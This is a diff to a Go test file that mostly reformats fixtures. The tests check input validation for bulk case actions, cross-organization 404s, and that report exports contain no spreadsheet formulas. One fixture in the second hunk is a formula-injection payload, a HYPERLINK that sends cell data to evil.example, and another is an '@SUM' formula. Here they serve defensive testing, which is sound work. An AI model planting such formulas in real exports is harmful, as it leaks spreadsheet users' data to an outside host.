@@ -171,15 +171,19 @@ func TestALongActionDoesWhatItCanAndSaysWhatBecameOfEachCase(t *testing.T) {
 	}
 
 	for what, wrong := range map[string]object{
-		"no cases": {"action": "close", "cases": []object{}}, "an unknown action": {"action": "dance", "cases": targets(ids...)}, "no id": {"action": "close", "cases": targets("x")},
-		"a foreign organization": {"action": "close", "cases": []object{{"id": ids[0], "org_id": unknown}}}, "too many": {"action": "close", "cases": targets(make([]string, 1001)...)},
+		"no cases":               {"action": "close", "cases": []object{}},
+		"an unknown action":      {"action": "dance", "cases": targets(ids...)},
+		"no id":                  {"action": "close", "cases": targets("x")},
+		"a foreign organization": {"action": "close", "cases": []object{{"id": ids[0], "org_id": unknown}}},
+		"too many":               {"action": "close", "cases": targets(make([]string, 1001)...)},
 	} {
 		if got := w.customer.call(400, "POST", cases+"/bulk", wrong).object(t); text(got, "detail") == "" {
 			t.Errorf("%s: %v", what, got)
 		}
 	}
 	foreign, job := w.foreigner(), text(done, "id")
-	for _, path := range []string{org + "/jobs", org + "/jobs/" + text(first, "id"), msp + "/jobs", msp + "/jobs/" + job} {
+	for _, path := range []string{org + "/jobs", org + "/jobs/" + text(first, "id"), msp + "/jobs",
+		msp + "/jobs/" + job} {
 		foreign.call(404, "GET", path, nil)
 	}
 	for _, path := range []string{cases + "/bulk", msp + "/cases/bulk"} {
@@ -195,7 +199,9 @@ func TestAReportIsFetchedByItsLinkAndHasNoFormulas(t *testing.T) {
 	org := "/orgs/" + w.orgID
 	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
 	for _, one := range []object{
-		{"subject": formula, "description": "x", "custom_tag": "@SUM(1+1)"}, {"subject": "Café, \"quoted\" 東京", "description": "x", "severity": 1}, {"subject": "+1 555 0100", "description": "x"},
+		{"subject": formula, "description": "x", "custom_tag": "@SUM(1+1)"},
+		{"subject": "Café, \"quoted\" 東京", "description": "x", "severity": 1},
+		{"subject": "+1 555 0100", "description": "x"},
 	} {
 		w.customer.post(org+"/cases", one)
 	}
